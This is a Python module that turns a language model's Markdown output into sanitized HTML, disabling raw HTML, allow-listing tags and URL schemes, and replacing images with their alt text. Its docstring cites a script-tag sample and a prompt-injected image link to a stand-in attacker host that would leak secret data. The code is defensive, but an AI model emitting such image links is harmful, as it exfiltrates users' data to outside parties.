"""Model output as safe HTML: Markdown rendered on the server, then cleaned with an allow-list.

    html = render_markdown("**Hi** <script>x()</script> ![x](https://t/?q=secret)")
    # '<p><strong>Hi</strong> &lt;script&gt;x()&lt;/script&gt; <span class="image">[image: x]</span></p>'

Two layers, so that neither alone has to be perfect: markdown-it-py with raw HTML off (a tag the
model writes is shown as text), and nh3 (the ammonia sanitizer) keeping only the tags and
attributes listed here, and links only to http, https and mailto. Images are never loaded (a
prompt-injected `![](https://attacker/?q=secret)` would leak data): they become their alt text.
Headings move down two levels, under the page's own.
"""

from __future__ import annotations

import html
from collections.abc import Sequence
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.rules_core import StateCore
from markdown_it.token import Token

TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "span",
}
ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "code": {"class"}, "span": {"class"}}
URL_SCHEMES = {"http", "https", "mailto"}
HEADING_OFFSET = 2


def _image(renderer: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    alt = "".join(child.content for child in token.children or [])
    return f'<span class="image">[image: {html.escape(alt or "no description")}]</span>'


def _demote_headings(state: StateCore) -> None:
    """The answer sits under the page's own h2: its `#` becomes an h3 (and `######` stays an h6)."""
    for token in state.tokens:
        if token.type in ("heading_open", "heading_close"):
            token.tag = f"h{min(int(token.tag[1]) + HEADING_OFFSET, 6)}"


def _parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    parser.enable(["table", "strikethrough"])
    parser.add_render_rule("image", _image)
    parser.core.ruler.push("demote_headings", _demote_headings)
    return parser


_PARSER = _parser()


def render_markdown(text: str) -> str:
    """`text` (Markdown from a model) as HTML that is safe to put in a page."""
    if not text:
        return ""
    return nh3.clean(
        _PARSER.render(text),
        tags=TAGS,
        attributes=ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )
